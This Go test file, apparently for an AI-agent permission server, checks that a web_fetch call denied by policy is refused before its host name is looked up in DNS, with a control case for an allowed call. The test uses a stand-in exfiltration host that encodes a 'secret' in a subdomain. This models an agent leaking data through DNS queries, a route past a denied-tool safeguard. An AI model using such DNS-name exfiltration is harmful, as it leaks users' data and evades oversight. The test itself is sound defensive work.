package tests

import (
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

// queryLog is a PacketConn that records the name of every DNS query read
// through it (the server answers as serveDNS does).
type queryLog struct {
	net.PacketConn
	mu    sync.Mutex // guards names
	names []string
}

func (q *queryLog) ReadFrom(b []byte) (int, net.Addr, error) {
	n, from, err := q.PacketConn.ReadFrom(b)
	if err == nil {
		var p dnsmessage.Parser
		if _, perr := p.Start(b[:n]); perr == nil {
			if qq, qerr := p.Question(); qerr == nil {
				q.mu.Lock()
				q.names = append(q.names, strings.TrimSuffix(strings.ToLower(qq.Name.String()), "."))
				q.mu.Unlock()
			}
		}
	}
	return n, from, err
}

// asked reports how many queries named host.
func (q *queryLog) asked(host string) int {
	q.mu.Lock()
	defer q.mu.Unlock()
	n := 0
	for _, s := range q.names {
		if s == host {
			n++
		}
	}
	return n
}

// TestDeniedToolIsNotLookedUp: a web_fetch the policy denies outright
// (denied_tools) is denied policy_denies_action without its host name
// reaching a DNS server — an agent cannot send data out through the names of
// calls it may not make, and the answer waits on no resolver. The control: the
// same call on a turn that does not deny the tool is looked up (and refused
// when the name resolves to a private address), so the first count is not
// zero by accident.
func TestDeniedToolIsNotLookedUp(t *testing.T) {
	t.Parallel()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	log := &queryLog{PacketConn: pc}
	dns := serveDNS(log, nil)
	s := StartServer(t, "", "--dns-server", dns)
	root := workspace(t)
	s.JSON("POST", "/v1/turns", map[string]any{"turn_id": "denies", "workspace_id": "ws", "thread_id": "th", "workspace_root": root,
		"permission_profile": map[string]any{"mode": "supervised", "denied_tools": []string{"web_fetch"}}}, http.StatusCreated, nil)
	s.startTurn("asks", "ws", "supervised", root)

	const host = "secret-0123.exfil.example.org"
	wantDecision(t, "denied tool", s.decide("denies", "c1", "web_fetch", map[string]any{"url": "https://" + host + "/"}), "deny", "policy_denies_action", "")
	if n := log.asked(host); n != 0 {
		t.Fatalf("the host of a denied call was looked up %d times", n)
	}
	// Control: the same URL where the tool is not denied is looked up
	// (NXDOMAIN here: a name that does not exist is asked about).
	wantDecision(t, "allowed tool (control)", s.decide("asks", "c1", "web_fetch", map[string]any{"url": "https://" + host + "/"}), "ask", "policy_requires_approval", "")
	if n := log.asked(host); n == 0 {
		t.Fatal("the control was not looked up either: the count proves nothing")
	}
}
